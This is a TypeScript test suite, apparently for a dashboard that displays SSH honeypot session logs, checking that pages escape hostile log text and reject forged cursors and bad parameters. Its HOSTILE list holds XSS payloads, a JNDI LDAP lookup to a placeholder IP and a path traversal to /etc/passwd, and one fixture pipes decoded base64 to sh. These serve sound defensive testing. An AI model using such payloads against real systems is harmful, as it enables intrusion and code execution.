/** Pages of sessions, the overview and the search: what they answer, and that no text of a log gets out of its place. */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { type DefaultTreeAdapterTypes, parse } from 'parse5'
import { ownText } from '../../src/core/event.ts'
import { dayOf, US_PER_DAY } from '../../src/core/instant.ts'
import { Groups } from '../../src/report/groups.ts'
import { knownValues, noveltyOf } from '../../src/report/novelty.ts'
import { sessionText } from '../../src/report/session-json.ts'
import { InsightQueries } from '../../src/store/repo/insights.ts'
import { eventsOfSession, findSessions } from '../../src/store/repo/sessions.ts'
import { overview, warmOverviews } from '../../src/web/data/overview.ts'
import { eachEngine, NOW_US } from '../support/engines.ts'
import { event, type Fields, Lab, lines, rules } from '../support/loading.ts'
import { type Person, testDashboard, testOptions, testParts } from '../support/web.ts'

const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></svg><svg onload=alert(1)>',
  'javascript:alert(1)',
  `$\{jndi:ldap://203.0.113.7/a}`,
  '\u202Egnp.exe\u0000\u001b]0;x\u0007',
  '../../etc/passwd',
  '//203.0.113.7/x',
]

/** A session whose every field is the text. */
function sessionOfText(text: string, n: number): Fields[] {
  const at = (s: number): string => `2026-05-${String(10 + n).padStart(2, '0')}T00:00:0${s}.000000Z`
  const shared = {
    sensor: `s ${text}`.slice(0, 60),
    session: `${n}${text}`.slice(0, 60),
    src_ip: text,
  }
  const one = (eventid: string, s: number, fields: Fields): Fields => ({
    eventid,
    timestamp: at(s),
    message: text,
    ...shared,
    ...fields,
    [text.slice(0, 30)]: text,
  })
  return [
    one('cowrie.session.connect', 0, { protocol: text }),
    one('cowrie.client.version', 1, { version: text }),
    one('cowrie.client.kex', 1, { hassh: text, hasshAlgorithms: text }),
    one('cowrie.client.size', 1, { width: text, height: text }),
    one('cowrie.login.success', 2, { username: text, password: text }),
    one('cowrie.command.input', 3, { input: text }),
    one('cowrie.command.input', 4, {
      input: `echo ${Buffer.from(text).toString('base64')} | base64 -d | sh`,
    }),
    one('cowrie.session.file_download', 5, { shasum: text, url: text, destfile: text }),
    one(`cowrie.${text}`.slice(0, 60), 6, {}),
    one('cowrie.session.closed', 7, { duration: 7.5 }),
  ]
}

type Element = DefaultTreeAdapterTypes.Element

function elementsOf(text: string): Element[] {
  const found: Element[] = []
  const walk = (node: DefaultTreeAdapterTypes.Node): void => {
    if ('tagName' in node) found.push(node)
    if ('childNodes' in node) for (const child of node.childNodes) walk(child)
  }
  walk(parse(text))
  return found
}

/** Names of elements with their attributes. */
function shapesOf(text: string): Set<string> {
  return new Set(
    elementsOf(text).map(
      ({ tagName, attrs }) =>
        `${tagName} ${attrs
          .map((one) => one.name)
          .sort()
          .join(' ')}`,
    ),
  )
}

/** Nothing on a page runs, styles or leads elsewhere but what the program wrote. */
function checkPage(text: string, said: string): void {
  for (const { tagName, attrs } of elementsOf(text)) {
    const of = (name: string): string | undefined => attrs.find((one) => one.name === name)?.value
    for (const { name, value } of attrs) {
      assert.doesNotMatch(name, /^on|^style$|^srcdoc$/, `${said}: ${tagName} ${name}`)
      if (['href', 'action', 'src', 'formaction'].includes(name))
        assert.match(value, /^(?:\/(?!\/)|#)/, `${said}: ${tagName} ${name}="${value}"`)
    }
    if (tagName === 'script') assert.match(of('src') ?? '', /^\/assets\/[a-z-]+\.js\?v=\w+$/, said)
    assert.ok(
      !['img', 'iframe', 'object', 'embed', 'base', 'meta http-equiv'].includes(tagName),
      said,
    )
  }
}

eachEngine((engine) => {
  describe('pages of sessions', () => {
    let lab: Lab
    let dashboard: Awaited<ReturnType<typeof testDashboard>>
    let viewer: Person

    before(async () => {
      lab = await Lab.open()
      const log = HOSTILE.flatMap((text, n) => sessionOfText(text, n))
      const plain = sessionOfText('plain', 12)
      lab.write('a.json', lines([...log, ...plain, event({ session: 'abcdefabcdef' })]))
      await lab.load()
      dashboard = await testDashboard(testParts(lab.store, lab.folder), testOptions(lab.folder))
      viewer = await dashboard.person('viewer')
    })
    after(async () => {
      await dashboard.server.close()
      await lab[Symbol.asyncDispose]()
    })

    const sessions = async () => {
      const found = []
      for await (const one of findSessions(lab.store.query, {})) found.push(one)
      return found
    }
    const pathOf = (sensor: string, session: string): string =>
      `/sessions/${encodeURIComponent(sensor)}/${encodeURIComponent(session)}`

    test('no text of a log adds an element or an attribute to a page', async () => {
      const benign = await viewer.get(pathOf('s plain', '12plain'))
      assert.equal(benign.statusCode, 200)
      const allowed = shapesOf(benign.body)
      for (const one of await sessions()) {
        const page = await viewer.get(pathOf(one.sensor, one.session))
        assert.equal(page.statusCode, 200, one.session)
        checkPage(page.body, one.session)
        if (one.session === 'abcdefabcdef') continue
        const more = [...shapesOf(page.body)].filter((shape) => !allowed.has(shape))
        // Rules hit and layers are undone in some, escapes are boxed, and places of rules are linked.
        assert.deepEqual(
          more.filter(
            (shape) =>
              !/^(?:span class|div class|ol class|li |b |p class|summary |details class|code |a class href|use href|svg aria-hidden class|path |button aria-pressed data-show type)/.test(
                shape,
              ),
          ),
          [],
          one.session,
        )
      }
      for (const url of [
        '/sessions',
        '/sessions?limit=200&sort=threat',
        '/',
        '/?range=180d',
        '/?by=hour',
      ])
        checkPage((await viewer.get(url)).body, url)
    })

    test('no parameter of an address adds an element or an attribute to a page', async () => {
      const fields = [
        'text',
        'command',
        'username',
        'password',
        'credential',
        'url',
        'client',
        'rule',
        'sensor',
      ]
      for (const text of HOSTILE.map((one) => one.replaceAll('\0', ''))) {
        const query = new URLSearchParams(
          Object.fromEntries(fields.map((name) => [name, text.slice(0, 120)])),
        )
        const page = await viewer.get(`/sessions?${query}`)
        assert.equal(page.statusCode, 200)
        checkPage(page.body, text)
        checkPage((await viewer.get(`/?sensor=${encodeURIComponent(text)}`)).body, text)
        const found = await viewer.get(`/search?q=${encodeURIComponent(text)}`)
        assert.equal(found.statusCode, 303)
        assert.match(String(found.headers.location), /^\/sessions[/?]/)
      }
    })

    test('filters come back from an address as they were written into it', async () => {
      for (const text of HOSTILE.map((one) => one.replaceAll('\0', ''))) {
        const page = await viewer.get(
          `/sessions?${new URLSearchParams({ password: text, withLogin: '1', sort: 'threat' })}`,
        )
        const elements = elementsOf(page.body)
        const fieldValue = (name: string): string | undefined =>
          elements
            .find(
              ({ tagName, attrs }) =>
                tagName === 'input' &&
                attrs.some((one) => one.name === 'name' && one.value === name),
            )
            ?.attrs.find((one) => one.name === 'value')?.value
        // Characters that show nothing are spelled out in a field.
        if (!/\p{Cc}|\p{Cf}/u.test(text)) assert.equal(fieldValue('password'), text)
        const links = elements
          .filter(({ tagName }) => tagName === 'a')
          .map(({ attrs }) => attrs.find((one) => one.name === 'href')?.value ?? '')
          .filter((href) => href.startsWith('/sessions?') && href.includes('password='))
        assert.ok(links.length > 0, 'what takes another filter away keeps this one')
        for (const href of links)
          assert.equal(new URL(href, 'http://x').searchParams.get('password'), text)
      }
    })

    test('each filter that is active can be taken away by itself', async () => {
      const page = await viewer.get('/sessions?password=plain&withLogin=1&threat=1')
      const chips = elementsOf(page.body)
        .flatMap(({ attrs }) =>
          attrs.some((one) => one.name === 'aria-label' && one.value.startsWith('Remove filter'))
            ? (attrs.find((one) => one.name === 'href')?.value ?? [])
            : [],
        )
        .map((href) => [...new URL(href, 'http://x').searchParams.keys()].sort().join())
      assert.deepEqual(chips.sort(), ['password,threat', 'password,withLogin', 'threat,withLogin'])
    })

    test('a cursor that was not made here, or for another order, is refused', async () => {
      const first = await viewer.get('/api/v1/sessions?limit=2')
      const { next } = first.json() as { next: string }
      assert.equal((await viewer.get(`/api/v1/sessions?limit=2&cursor=${next}`)).statusCode, 200)
      const forged = (value: unknown): string =>
        Buffer.from(JSON.stringify(value)).toString('base64url')
      for (const cursor of [
        'x',
        '%00',
        forged(null),
        forged([]),
        forged(['start', 'desc', 'after', 0, 1.5, 'a', 'b']),
        forged(['start', 'desc', 'after', 0, '1', 'a', 'b']),
        forged(['start', 'desc', 'sideways', 0, 1, 'a', 'b']),
        forged(['start', 'desc', 'after', 0, 1, 'a\0', 'b']),
        forged(['threat', 'desc', 'after', 0, 1, 'a', 'b']),
        next.slice(0, -4),
      ]) {
        const answer = await viewer.get(`/api/v1/sessions?limit=2&cursor=${cursor}`)
        assert.equal(answer.statusCode, 400, cursor)
      }
      assert.equal((await viewer.get(`/sessions?sort=threat&cursor=${next}`)).statusCode, 400)
    })

    test('parameters out of their form are refused', async () => {
      for (const query of [
        'limit=0',
        'limit=201',
        'threat=101',
        'threat=x',
        'sort=id',
        'address=192.0.2.0/4',
        'address=x/24',
        'from=2026-13-01',
        'until=yesterday',
        'technique=x',
        'unknown=1',
      ])
        assert.equal((await viewer.get(`/api/v1/sessions?${query}`)).statusCode, 400, query)
    })

    test('the JSON of a session is that of the command line', async () => {
      const [one] = await sessions()
      const answer = await viewer.get(`/api/v1${pathOf(one!.sensor, one!.session)}`)
      assert.equal(answer.statusCode, 200)
      const expected: unknown = JSON.parse(
        sessionText(one!, await eventsOfSession(lab.store.query, one!)),
      )
      assert.deepEqual(answer.json(), expected)
      const file = await viewer.get(`${pathOf(one!.sensor, one!.session)}/download`)
      assert.deepEqual(JSON.parse(file.body), expected)
      assert.match(
        String(file.headers['content-disposition']),
        /^attachment; filename="session-\w+\.json"$/,
      )
    })

    test('a session that is not there is not found', async () => {
      for (const path of ['/sessions/a/b', '/api/v1/sessions/a/b', '/sessions/a/b/download'])
        assert.equal((await viewer.get(path)).statusCode, 404)
    })

    test('one field leads to what a text means', async () => {
      const kindOf = async (q: string): Promise<string> =>
        ((await viewer.get(`/api/v1/search?q=${encodeURIComponent(q)}`)).json() as { kind: string })
          .kind
      assert.equal(await kindOf('192.0.2[.]7'), 'address')
      assert.equal(await kindOf('2001:db8::/32'), 'network')
      assert.equal(await kindOf('abcdefabcdef'), 'session')
      assert.equal(await kindOf('e'.repeat(64)), 'file')
      assert.equal(await kindOf('e'.repeat(32)), 'hassh')
      assert.equal(await kindOf('t1059.004'), 'technique')
      assert.equal(await kindOf('AS64496'), 'asn')
      assert.equal(await kindOf('cowrie.login.failed'), 'event')
      assert.equal(await kindOf('plain / plain'), 'credential')
      assert.equal(await kindOf('wget tmp'), 'text')
      assert.equal(await kindOf(''), 'nothing')
    })

    test('the overview counts what the store holds, by day and by hour', async () => {
      const parts = testParts(lab.store, lab.folder)
      const all = await lab.events()
      for (const by of ['day', 'hour'] as const) {
        const found = await overview(parts, { range: '180d', by })
        const step = found.series.stepUs
        const inside = all.filter(({ at }) => at >= found.span.sinceUs && at < found.span.untilUs)
        assert.equal(found.events.now, inside.length)
        found.series.events.forEach((count, i) => {
          const from = found.series.startUs + i * step
          assert.equal(count, all.filter(({ at }) => at >= from && at < from + step).length)
        })
        const starts = (await sessions()).map((one) => one.firstEventUs)
        assert.equal(
          found.sessions.now,
          starts.filter((at) => at >= found.span.sinceUs && at < found.span.untilUs).length,
        )
      }
    })

    test('the overview of a sensor counts that sensor alone', async () => {
      const parts = testParts(lab.store, lab.folder)
      const all = await lab.events()
      for (const by of ['day', 'hour']) {
        const found = await overview(parts, { range: '30d', sensor: 's plain', by })
        assert.equal(
          found.series.events.reduce((sum, one) => sum + one, 0),
          all.filter((one) => one.sensor === 's plain').length,
        )
        assert.equal(found.sessions.now, 1)
        assert.equal((await overview(parts, { range: '30d', sensor: 'none', by })).events.now, 0)
      }
    })

    test('fates of all lines add up, and top lists are those of a report', async () => {
      const found = await overview(testParts(lab.store, lab.folder), { range: '180d' })
      const { conservation: sums } = found
      assert.equal(
        sums.records,
        sums.stored + sums.duplicate + sums.held + sums.dead + sums.blank + sums.expired,
      )
      assert.equal(sums.records, HOSTILE.length * 10 + 11)
      assert.equal(found.credentials.length > 0 && found.commands.length > 0, true)
      assert.ok(found.commands.every((one, i, all) => i === 0 || all[i - 1]!.events >= one.events))
    })

    test('new on a sensor is what was not met on it before, as in its report', async () => {
      await using fresh = await Lab.open(engine)
      const typed = (sensor: string, session: string, day: number, input: string): Fields =>
        event({
          eventid: 'cowrie.command.input',
          timestamp: `2026-05-${day}T00:00:00.000000Z`,
          ...{ sensor, session, input },
        })
      fresh.write(
        'a.json',
        lines([
          typed('east', 'a1', 12, 'uname'),
          typed('west', 'a2', 12, 'id'),
          typed('east', 'a3', 20, 'uname'),
          typed('east', 'a4', 20, 'id'),
          typed('east', 'a5', 20, 'w'),
        ]),
      )
      await fresh.load()
      const parts = testParts(fresh.store, fresh.folder)
      const newOn = async (sensor: string | undefined): Promise<unknown> => {
        const { news } = await overview(parts, { range: '180d', sensor })
        const commands = news.values.filter(({ kind }) => kind === 'command')
        return [news.counts.command, commands.map(({ value }) => value)]
      }
      assert.deepEqual(await newOn(undefined), [1, ['w']])
      assert.deepEqual(await newOn('east'), [2, ['id', 'w']])
      assert.deepEqual(await newOn('west'), [0, []])
      const day = dayOf(Date.UTC(2026, 4, 20) * 1000)
      const source = await InsightQueries.open(fresh.store.query, {
        ...{ fromDay: day, untilDay: day + 1, sensor: 'east' },
      })
      const known = await knownValues(source, new Map())
      const reader = { score: () => ({ threat: 0, hazard: 0 }), sshKeys: () => [] } as never // none of its rules is asked for
      const { totals } = await noveltyOf(
        source,
        reader,
        known,
        [],
        new Groups(() => ownText('')),
        5,
      )
      assert.equal(totals.command, 2)
    })

    test('lists of a time that is not made of whole days say which days they are of', async () => {
      await using fresh = await Lab.open(engine)
      fresh.write('a.json', lines([event({ timestamp: '2026-05-20T10:00:00.000000Z' })]))
      await fresh.load()
      const midnight = (dayOf(Date.UTC(2026, 4, 20) * 1000) + 1) * US_PER_DAY
      const page = async (nowUs: number): Promise<string> => {
        const dashboard = await testDashboard(
          testParts(fresh.store, fresh.folder, () => nowUs),
          testOptions(fresh.folder),
        )
        const viewer = await dashboard.person('viewer', `v${nowUs}`)
        const { body } = await viewer.get('/?range=24h')
        await dashboard.server.close()
        return body
      }
      const said = 'Addresses, log-ins and files are those of all of 2026-05-19 to 2026-05-20 UTC.'
      assert.ok((await page(midnight - US_PER_DAY / 2)).includes(said))
      assert.ok(!(await page(midnight)).includes('are those of all of'))
    })

    test('what comes in is in the next overview, also where it belongs to an old day', async () => {
      await using fresh = await Lab.open(engine)
      let nowUs = NOW_US
      const parts = testParts(fresh.store, fresh.folder, () => nowUs)
      fresh.write(
        'a.json',
        lines([event({ session: 'a1', timestamp: '2026-05-20T00:00:00.000000Z' })]),
      )
      await fresh.load()
      const before = await overview(parts, { range: '30d' })
      assert.equal(before.sessions.now, 1)
      fresh.write(
        'b.json',
        lines([
          event({ session: 'a2', timestamp: '2026-05-12T00:00:00.000000Z' }),
          event({ session: 'a1', timestamp: '2026-05-19T00:00:00.000000Z' }),
        ]),
      )
      await fresh.load()
      nowUs += 6_000_000
      const later = await overview(parts, { range: '30d' })
      assert.equal(later.sessions.now, 2)
      const day = (us: number): number => dayOf(us) - dayOf(later.series.startUs)
      assert.equal(later.series.sessions[day(Date.UTC(2026, 4, 19) * 1000)], 1)
      assert.equal(later.series.sessions[day(Date.UTC(2026, 4, 20) * 1000)], 0)
    })

    test('an overview made of what was kept is the one that is made of the store alone', async () => {
      await using fresh = await Lab.open(engine)
      let nowUs = NOW_US
      const parts = testParts(fresh.store, fresh.folder, () => nowUs)
      const typed = (session: string, day: string, input: string): Fields =>
        event({
          eventid: 'cowrie.command.input',
          session,
          timestamp: `${day}T00:00:00.000000Z`,
          input,
        })
      // Old days, the newest, and an old one again.
      const loads = [
        [
          typed('a1', '2026-05-12', 'id'),
          typed('a2', '2026-05-12', 'uname'),
          typed('a3', '2026-05-30', 'id'),
        ],
        [typed('a4', '2026-05-30', 'uname')],
        [typed('a5', '2026-05-12', 'uname'), typed('a6', '2026-05-29', 'w')],
      ]
      for (const [i, log] of loads.entries()) {
        fresh.write(`${i}.json`, lines(log))
        await fresh.load()
        nowUs += 6_000_000
        for (const asked of [{ range: '30d' }, { range: '30d', by: 'hour' }, { range: '24h' }]) {
          const unkept = { query: fresh.store.query } as typeof fresh.store // all it is asked for
          assert.deepEqual(
            await overview(parts, asked),
            await overview({ ...parts, store: unkept }, asked),
          )
        }
      }
      const { commands } = await overview(parts, { range: '30d' })
      assert.deepEqual(
        commands.map(({ value, events }) => [value, events]),
        [
          ['uname', 3],
          ['id', 2],
          ['w', 1],
        ],
      )
    })

    test('overviews made when the server starts are not made again for those who ask', async () => {
      let asked = 0
      const counted = {
        get query() {
          asked += 1
          return lab.store.query
        },
      } as typeof lab.store // all it is asked for
      const parts = { ...testParts(lab.store, lab.folder), store: counted }
      await warmOverviews(parts, new AbortController().signal)
      const questionsOf = async (range: string): Promise<number> => {
        const before = asked
        await overview(parts, { range })
        return asked - before
      }
      for (const range of ['24h', '7d', '30d', '180d'])
        assert.equal(await questionsOf(range), await questionsOf(range))
      const stopped = new AbortController()
      stopped.abort()
      asked = 0
      await warmOverviews(parts, stopped.signal)
      assert.equal(asked, 0)
    })

    test('a span counts back from the newest event where that is older', async () => {
      const parts = testParts(lab.store, lab.folder, () => NOW_US + 400 * US_PER_DAY)
      const found = await overview(parts, { range: '7d' })
      assert.equal(found.span.isBehind, true)
      assert.ok(found.events.now > 0)
      assert.match((await viewer.get('/?range=24h')).body, /counts back from its day/)
    })

    test('an empty store says what to do', async () => {
      await using fresh = await Lab.open(engine)
      const empty = await testDashboard(
        testParts(fresh.store, fresh.folder),
        testOptions(fresh.folder),
      )
      const person = await empty.person('viewer')
      assert.match((await person.get('/')).body, /nacre ingest bulk/)
      assert.match((await person.get('/sessions')).body, /nacre ingest bulk/)
      assert.equal((await person.get('/api/v1/overview')).statusCode, 200)
      await empty.server.close()
    })

    test('a session page names its batch and the checkpoint that signs it', async () => {
      const page = await viewer.get(pathOf('s plain', '12plain'))
      assert.match(page.body, /10 of 10 in the sealed record/)
      assert.match(page.body, /sealed and signed/)
      const proof = /href="(\/integrity\/proof\?batch=\d+&#38;record=\d+)"/.exec(page.body)![1]!
      const shown = await viewer.get(proof.replace('&#38;', '&'))
      assert.match(shown.body, /<h2 id="pc">Record /)
    })

    test('commands are shown with what was undone and the rules that hit', async () => {
      const { sensor, session } = (await sessions()).find((one) => one.session.startsWith('5$'))!
      const page = await viewer.get(pathOf(sensor, session))
      assert.match(page.body, /Undone to read it: base64/)
      const jndi = rules.definitions.find(({ id }) => id.includes('jndi'))!
      assert.ok(page.body.includes(jndi.title))
    })
  })
})
